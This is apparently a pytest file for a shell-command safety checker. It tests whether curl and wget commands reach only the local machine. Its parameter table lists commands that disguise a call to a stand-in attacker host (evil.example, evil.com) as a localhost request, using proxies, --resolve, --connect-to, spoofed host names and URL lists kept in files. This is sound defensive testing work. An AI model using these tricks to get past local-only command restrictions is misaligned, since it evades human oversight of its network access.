"""Ordinary project commands (issue 23 §3): a closed description, tested both ways."""

from __future__ import annotations

import pytest

from pipeline.safety.shell import parse
from pipeline.safety.words import command_host, is_local_host


# -- hosts: local means this machine, spelled so nothing reads another host into it ---------------
@pytest.mark.parametrize(("command", "host", "local"), [
    ("curl http://127.0.0.1.evil.example/", "127.0.0.1.evil.example", False),
    ("curl http://localhost.evil.com/", "localhost.evil.com", False),
    ("curl --resolve localhost:80:203.0.113.9 http://localhost/", "203.0.113.9", False),
    ("curl --connect-to localhost:80:evil.example:80 http://localhost/", "evil.example", False),
    ("curl -x http://evil.example:8080 http://localhost/", "evil.example", False),
    ("curl -sSx evil.example:3128 http://localhost/", "evil.example", False),
    ("curl --proxy=evil.example:1 http://localhost", "evil.example", False),
    ("curl -K urls.cfg", "a host named in a file", False),
    ("wget -i urls.txt", "a host named in a file", False),
    ("wget -e https_proxy=evil.example:1 http://localhost/", "evil.example", False),
    ("curl http://localhost http://evil.example", "evil.example", False),
    ("curl -s http://localhost:8000/health", "localhost", True),
    ("curl -is localhost:3000", "localhost", True),
    ("curl http://[::1]:80/", "::1", True),
    ("curl http://127.0.0.1:8000/api", "127.0.0.1", True),
])
def test_the_host_a_command_reaches(command: str, host: str, local: bool) -> None:
    found = command_host(next(parse(command).commands()))
    assert found == host and is_local_host(found) is local


def test_the_reader_keeps_each_wrapper_with_its_words() -> None:
    (command,) = parse("FOO=1 timeout 60 uv run --python 3.11 --with=git+https://x/y.git pytest -q").pipelines[0]
    assert command.argv == ["pytest", "-q"] and command.assignments == ["FOO=1"]
    assert command.wrapped == [["timeout", "60"], ["uv", "run", "--python", "3.11", "--with=git+https://x/y.git"]]
    (command,) = parse("uv run --index https://evil.example/simple pytest").pipelines[0]
    assert command.argv == ["pytest"]  # the index URL is the option's value, not the program
